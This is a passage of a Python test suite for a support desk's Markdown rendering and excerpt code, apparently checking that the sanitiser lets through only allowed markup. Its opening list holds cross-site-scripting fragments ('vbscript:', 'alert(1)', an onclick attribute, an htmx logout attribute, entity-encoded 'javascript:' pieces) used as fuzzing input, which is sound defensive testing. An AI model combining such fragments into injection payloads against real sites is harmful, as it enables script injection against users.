    "hx-post=/api/logout", "data-hx-get", "```", "`", "*", "_", "[", "](", ")", "![", "&#",
    "&#x09;", "106;", "x3A;", "&lt;", "&amp;", "=", "/", "\\", "#", "-", "|", ":", ";", " ",
    "\t", "\n", "\n\n", "    ", "> ", "1. ", "- ", "http://", "https://x.example/",
    "mailto:", "data:", "vbscript:", "script", "img", "svg", "iframe", "style", "src=",
    "href=", "a", "b", "x", "alert(1)", "{.python #id onclick=x}", "\x00", "\x02", "\x03",
    "\x1a", "<!--", "-->", "<?", "?>", "<![CDATA[",
]
_random = random.Random(1234)
RANDOM_MESSAGES = [
    "".join(_random.choice(FRAGMENTS) for _ in range(_random.randint(1, 40)))
    for _ in range(200)
]


@pytest.mark.parametrize("message", RANDOM_MESSAGES)
def test_random_dangerous_fragments_render_only_allowed_markup(message: str) -> None:
    assert_safe(render_markdown(message))


# --- Nothing lost, nothing raised ---------------------------------------------------
# (Attacks through the portal and the mail intake: tests/security/.)

def test_nesting_up_to_the_limit_is_markdown() -> None:
    rendered = render_markdown("- " * 5 + "deep\n\n" + "> " * 9 + "quoted")
    assert rendered.count("<ul>") == 5 and rendered.count("<blockquote>") == 9
    assert "<li>deep</li>" in rendered and "<p>quoted</p>" in rendered


@pytest.mark.parametrize("deep", ["- " * 10_000 + "fin", "1. " * 10_000 + "fin",
                                  "> " * 10_000 + "fin", "- > 1. " * 3_000 + "fin"])
def test_nesting_past_the_limit_is_the_whole_text_as_text(deep: str) -> None:
    # markdown-it would drop everything past its nesting limit, here "fin" and "after".
    message = f"before **bold**\n{deep}\n\nafter"
    assert render_markdown(message) == render_plain_text(message)
    assert render_plain_text(message) == (
        f"<p>before **bold**<br>\n{html.escape(deep, quote=False)}</p>\n<p>after</p>"
    )


def test_plain_text_keeps_paragraphs_lines_and_every_character() -> None:
    assert render_plain_text("a <b> & c\r\nd\n \n\n\ne  \n") == (
        "<p>a &lt;b&gt; &amp; c<br>\nd</p>\n<p>e  </p>"
    )
    assert render_plain_text("") == render_plain_text(" \n\n ") == ""


def test_a_failure_in_the_parser_shows_the_text_and_raises_nothing(
        monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture) -> None:
    class Broken:
        def parse(self, text: str, env: object) -> None:
            raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(markup, "_markdown", lambda: Broken())
    assert render_markdown("**hi** <b>\n\nthere") == "<p>**hi** &lt;b&gt;</p>\n<p>there</p>"
    assert "shown as plain text" in caplog.text


def test_text_longer_than_any_message_is_not_parsed() -> None:
    # Only the preview gets such text; parsing it would cost time for nothing.
    text = "**x** " * (markup.MAX_MARKDOWN_CHARS // 6 + 1)
    assert render_markdown(text) == render_plain_text(text)
    assert "<strong>" in render_markdown(text[: markup.MAX_MARKDOWN_CHARS])


def test_table_cells_beyond_the_header_are_kept() -> None:
    # A GFM table ignores them; here the table widens, so each stays a cell of its own
    # (it used to join the row's last cell: words kept, but "2 | 3" read as one amount).
    assert render_markdown("a | b\n--|--\n1 | 2 | 3 | **4**\n5") == (
        "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n<th></th>\n<th></th>\n</tr>\n</thead>\n<tbody>\n"
        "<tr>\n<td>1</td>\n<td>2</td>\n<td>3</td>\n<td><strong>4</strong></td>\n</tr>\n"
        "<tr>\n<td>5</td>\n<td></td>\n<td></td>\n<td></td>\n</tr>\n</tbody>\n</table>"
    )


def test_an_image_inside_a_link_is_its_description() -> None:
    # A link cannot hold a link: the badge's words name the outer link.
    assert render_markdown("[![build *ok*](https://example.com/b.svg)](https://example.com/ci)") == (
        '<p><a href="https://example.com/ci" rel="nofollow noopener noreferrer">build ok</a></p>'
    )


def test_invisible_control_characters_are_removed() -> None:
    assert render_markdown("a\x00b\x1b[31mc\x7f\td") == "<p>ab[31mc\td</p>"


# --- Excerpts ------------------------------------------------------------------------

def render_markdown_excerpt(text: str, limit: int = 160) -> str:
    # As a new ticket gets its excerpt: from the one rendering that is stored.
    return excerpt_of_html(render_markdown(text), limit)


def test_excerpt_is_the_text_without_markup() -> None:
    message = (
        "# My site is down\n\nSince **this morning** my site `example.com` shows\n"
        "an *error*. See [the log](https://example.com/log).\n\n- one\n- two"
    )
    assert render_markdown_excerpt(message) == (
        "My site is down Since this morning my site example.com shows an error. "
        "See the log. one two"
    )


def test_excerpt_keeps_typed_html_as_text_and_collapses_whitespace() -> None:
    assert render_markdown_excerpt("Tags  like <b>  and\n\n\n&amp;\u00a0 here") == (
        "Tags like <b> and & here"
    )


def test_excerpt_of_code_and_empty_messages() -> None:
    assert render_markdown_excerpt("```\n\tfoo()  \n```") == "foo()"
    assert render_markdown_excerpt("") == ""
    assert render_markdown_excerpt("   \n\n  ") == ""


def test_excerpt_is_cut_with_an_ellipsis() -> None:
    assert render_markdown_excerpt("short", limit=5) == "short"
    assert render_markdown_excerpt("word " * 100, limit=22) == "word word word word…"
    excerpt = render_markdown_excerpt("word " * 100)
    assert len(excerpt) <= 160 and excerpt.endswith("word…")
    assert render_markdown_excerpt("x" * 300, limit=10) == "x" * 9 + "…"
    # A long word at the end is cut rather than dropped when no word boundary is near.
    assert render_markdown_excerpt("ab " + "y" * 50, limit=20) == "ab " + "y" * 16 + "…"


def test_excerpt_of_a_long_message_is_its_start() -> None:
    # About 48 KB: a message is at most 64 KB, and longer text is not parsed as Markdown.
    log = "\n".join(f"line {n}\tERROR something failed" for n in range(1_500))
    message = f"Hello, here is the log:\n\n```\n{log}\n```\n\nThanks"
    excerpt = render_markdown_excerpt(message, limit=60)
    assert excerpt == "Hello, here is the log: line 0 ERROR something failed line…"


def test_excerpt_limit_must_be_positive() -> None:
    with pytest.raises(ValueError):
        render_markdown_excerpt("x", limit=0)


# --- Operation -----------------------------------------------------------------------

def test_renders_the_same_from_many_threads() -> None:
    messages = [f"# T{n}\n\n**{n}** `code\t{n}`\n\n```py\n\tx = {n}\n```" for n in range(64)]
    expected = [render_markdown(message) for message in messages]
    with ThreadPoolExecutor(max_workers=8) as pool:
        assert list(pool.map(render_markdown, messages * 4)) == expected * 4


def test_importing_the_module_leaves_markdown_it_and_nh3_unloaded() -> None:
    code = (
        "import sys, supportdesk.markup; "
        "print([name for name in ('markdown_it', 'mdurl', 'nh3') if name in sys.modules])"
    )
    shared = str(Path(supportdesk.__file__).resolve().parents[1])
    result = subprocess.run(
        [sys.executable, "-B", "-c", code], capture_output=True, text=True, check=True,
        env={**os.environ, "PYTHONPATH": shared},
    )
    assert result.stdout.strip() == "[]"
